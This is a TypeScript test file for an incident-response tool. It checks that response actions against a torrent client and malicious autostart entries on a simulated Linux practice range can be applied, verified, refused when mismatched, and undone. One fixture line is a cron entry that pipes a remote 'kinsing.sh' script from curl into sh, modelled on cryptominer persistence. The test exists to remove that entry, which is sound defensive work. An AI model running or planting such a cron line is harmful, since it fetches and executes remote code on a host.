import { mkdtemp, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { loadCatalog } from '../../../adapters/catalog/index.ts';
import { createLinuxResponder } from '../../../adapters/responder/linux/index.ts';
import type { SshSession } from '../../../adapters/ssh/index.ts';
import type { Backup, Plan, ResponseAction } from '../../../domain/plan.ts';
import { type Range, startRange } from '../../../scripts/practice/range.ts';
import { connectorOf, type Investigated, investigate } from './investigate.ts';

const ADDRESS = '10.20.0.12';
const catalog = loadCatalog();
const responder = createLinuxResponder({ runAs: 'sudo' });
let stateDir: string;
let range: Range;
let session: SshSession;

beforeEach(async () => {
  stateDir = await mkdtemp(join(tmpdir(), 'range-'));
  range = await startRange(stateDir);
  session = await connectorOf(range).connect(ADDRESS);
});

afterEach(async () => {
  session.close();
  await range.stop();
  await rm(stateDir, { recursive: true, force: true });
});

async function planned(): Promise<Plan> {
  const { plan } = await investigate(range, catalog, ADDRESS);
  if ('refused' in plan) throw new Error(plan.refused);
  return plan;
}

async function applyAll(plan: Plan): Promise<(readonly [ResponseAction, Backup['before']])[]> {
  const done: (readonly [ResponseAction, Backup['before']])[] = [];
  for (const action of plan.actions) {
    const backup = await responder.prepare(session, 'case-1', action);
    expect(backup.state).toBe('ready');
    await responder.apply(session, 'case-1', action, backup.before);
    expect(await responder.verify(session, 'case-1', action, backup.before)).toMatchObject({ ok: true });
    done.push([action, backup.before]);
  }
  return done;
}

const traces = ({ snapshot, assessment }: Investigated): readonly number[] => [
  assessment.clients.flatMap(({ pids }) => pids).length,
  snapshot.autostart.filter(({ name }) => name === 'transmission.desktop').length,
  snapshot.files.filter(({ path }) => path.startsWith('/home/alice/.config/transmission-daemon')).length,
  snapshot.sockets.filter(({ localPort }) => localPort === 51413).length,
];

describe('a response on a played Linux host', () => {
  it('changes the host: a new collection finds neither process, socket, autostart nor state, and the download untouched', async () => {
    const before = await investigate(range, catalog, ADDRESS);
    expect(traces(before).every((count) => count > 0)).toBe(true);
    await applyAll(await planned());
    const after = await investigate(range, catalog, ADDRESS);
    expect(traces(after)).toEqual([0, 0, 0, 0]);
    expect(after.snapshot.files.some(({ path }) => path.startsWith('/home/alice/Downloads/'))).toBe(true);
  });

  it('stays changed after a restart of the range', async () => {
    await applyAll(await planned());
    session.close();
    await range.stop();
    range = await startRange(stateDir);
    session = await connectorOf(range).connect(ADDRESS);
    expect(traces(await investigate(range, catalog, ADDRESS))).toEqual([0, 0, 0, 0]);
  });

  it('is undone newest first, and then the host is as it was, with the program under a new process id', async () => {
    const before = await investigate(range, catalog, ADDRESS);
    for (const [action, kept] of (await applyAll(await planned())).toReversed()) {
      await responder.undo(session, 'case-1', action, kept);
    }
    const after = await investigate(range, catalog, ADDRESS);
    expect(traces(after)).toEqual(traces(before));
    expect(after.assessment.clients[0]?.pids).not.toEqual(before.assessment.clients[0]?.pids);
  });

  it('refuses a process that is not the one in the plan, and finds a second run already done', async () => {
    const plan = await planned();
    const stop = plan.actions.find((action) => action.kind === 'stop-process')!;
    const wrong = [{ startId: '1' }, { executable: '/usr/bin/other' }, { executableSha256: '0'.repeat(64) }];
    for (const difference of wrong) {
      expect((await responder.prepare(session, 'case-1', { ...stop, ...difference })).state).toBe('refused');
    }
    await applyAll(plan);
    for (const action of plan.actions) {
      expect((await responder.prepare(session, 'case-1', action)).state).toBe('already_done');
    }
  });

  it('takes one line out of a crontab and a unit out of service, and puts both back', async () => {
    session.close();
    session = await connectorOf(range).connect('10.20.0.13');
    const location = '/var/spool/cron/crontabs/bob';
    const name = '*/15 * * * * curl -fsSL http://203.0.113.66/kinsing.sh | sh';
    const cron = { kind: 'disable-autostart', actionId: '1', autostart: 'cron', location, name } as const;
    await roundTrip(cron, async () =>
      (await investigate(range, catalog, '10.20.0.13')).snapshot.autostart.some(({ command }) =>
        command.includes('kinsing'),
      ),
    );
    const unit = {
      kind: 'disable-autostart',
      actionId: '2',
      autostart: 'systemd-system',
      location: '/lib/systemd/system/transmission-daemon.service',
      name: 'transmission-daemon.service',
    } as const;
    session.close();
    session = await connectorOf(range).connect('10.20.0.17');
    await roundTrip(unit, async () =>
      (await investigate(range, catalog, '10.20.0.17')).assessment.clients.some(({ pids }) => pids.length > 0),
    );
  });
});

async function roundTrip(action: ResponseAction, isThere: () => Promise<boolean>): Promise<void> {
  expect(await isThere()).toBe(true);
  const { state, before } = await responder.prepare(session, 'case-1', action);
  expect(state).toBe('ready');
  await responder.apply(session, 'case-1', action, before);
  expect((await responder.verify(session, 'case-1', action, before)).ok).toBe(true);
  expect(await isThere()).toBe(false);
  await responder.undo(session, 'case-1', action, before);
  expect((await responder.verify(session, 'case-1', action, before)).ok).toBe(false);
  expect(await isThere()).toBe(true);
}
